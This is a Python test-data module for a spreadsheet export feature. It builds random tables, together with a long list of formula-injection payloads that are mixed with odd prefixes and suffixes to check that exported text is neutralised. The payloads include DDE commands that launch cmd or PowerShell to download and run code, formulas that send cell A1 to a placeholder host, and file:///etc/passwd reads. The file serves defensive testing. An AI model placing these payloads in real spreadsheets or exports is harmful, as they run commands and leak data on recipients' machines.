"""Tables of any content, and texts that have made spreadsheets compute, for the tests of what is exported."""

from __future__ import annotations

import datetime as dt
from itertools import product
from typing import Any

from hypothesis import strategies as st

from brigade.dates import to_tokyo
from reports.tables import LARGEST, Cell, Column, Kind, Table, readable

FORMULAS = (
    "=1+1", "=1+1;2", "+1+1", "-1+1", "-1", "+81-90-1234-5678", "@SUM(1,2)", "=SUM(A1:A9)", "%0A=1", "|calc", "=", "+", "-", "@",
    "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget x)'!A1", "@cmd|'/c calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "=rundll32|'URL.dll,x'!A",
    '=HYPERLINK("http://example.invalid/?"&A1,"Error")', '=HYPERLINK("file:///etc/passwd")', '=WEBSERVICE("http://x.invalid/"&A1)',
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")', '=IMPORTDATA("http://x.invalid")', '=IMAGE("http://x.invalid/a.png")',
    '=IMPORTRANGE("x","A1")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "='file:///etc/passwd'#$passwd.A1", "{=1+1}", "=1/0", "=NOW()",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "％0", "｜x", "−1", "﹦1", "⁺1", "₋1", "=1+1\t", "=A1&\"x\"", "=\"a\"", "=-+-+1", "==1", "=@x",
    "<r><t>x</t></r></is></c><c r=\"B2\"><f>1+1</f></c><c r=\"C2\" t=\"inlineStr\"><is><r><t>y</t></r>", "<r></r>", "<r>=1</r>",
    "_x003D_1+1", "_x0041_x202E_7000", "_x005F_x003D_", "http://example.invalid/", "internal:Sheet1!A1", "mailto:a@b.invalid",
    "0123", "000", "1E5", "1-2", "3/4", "TRUE", "#REF!", "090-1234-5678", "１２", "&A", "&[Picture]", "]]>", "<!--", "&lt;f&gt;",
)  # fmt: skip
BEFORE = (
    "", " ", "   ", "\u3000", "\u00a0", "\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x1f", "\x85", "\u2028", "\u200b", "\ufeff", "\u202e",
    "\u2066", "\u00ad", "'", "''", '"', '"\n', "\n\n", "見出し\n", "見出し\r\n", "見出し\r", "a;", "a; ", "a;\t", "a,", "\n \u3000", "𠮷\n", "x\n'", ",",
    "'\n", "; ", " '", "第二分団\n\n\u200b",
)  # fmt: skip
AFTER = ("", "\n=2", "末尾")
PAYLOADS = tuple(before + formula + after for formula, before, after in product(FORMULAS, BEFORE, AFTER))

_FIRST, _LAST = dt.datetime(1900, 1, 2), dt.datetime(2199, 12, 30)  # noqa: DTZ001
_TEXT = st.text(max_size=30) | st.text(st.sampled_from("=+-@'\"<r>/_x0041;,\n\r\t 団員〜𠮷\u202e"), max_size=30)
VALUES: dict[Kind, st.SearchStrategy[Any]] = {
    Kind.TEXT: _TEXT,
    Kind.NUMBER: st.integers(-LARGEST, LARGEST),
    Kind.YEN: st.integers(-LARGEST, LARGEST),
    Kind.MINUTES: st.integers(0, 10_000_000),
    Kind.DATE: st.dates(_FIRST.date(), _LAST.date()),
    Kind.INSTANT: st.datetimes(_FIRST, _LAST, timezones=st.sampled_from([dt.UTC, dt.timezone(dt.timedelta(hours=-9))])),
    Kind.TRUTH: st.booleans(),
}


@st.composite
def tables(draw: st.DrawFn) -> Table:
    """A table of one to seven columns of any kinds and up to six rows."""
    kinds = draw(st.lists(st.sampled_from(Kind), min_size=1, max_size=7))
    labels = [draw(st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=9)) for _ in kinds]
    columns = tuple(Column(f"c{n}", label, kind) for n, (label, kind) in enumerate(zip(labels, kinds, strict=True)))
    rows = draw(st.lists(st.tuples(*(st.none() | VALUES[kind] for kind in kinds)), max_size=6))
    return Table("any", draw(st.text(max_size=40)), columns, rows)


def as_shown(table: Table) -> list[list[Cell]]:
    """The rows as they must come back: the empty text as no value, texts readable, instants in whole seconds."""
    return [[_shown(value) for value in row] for row in table.rows]


def _shown(value: Cell) -> Cell:
    if isinstance(value, dt.datetime):
        return to_tokyo(value).replace(microsecond=0)
    return (readable(value) or None) if isinstance(value, str) else value
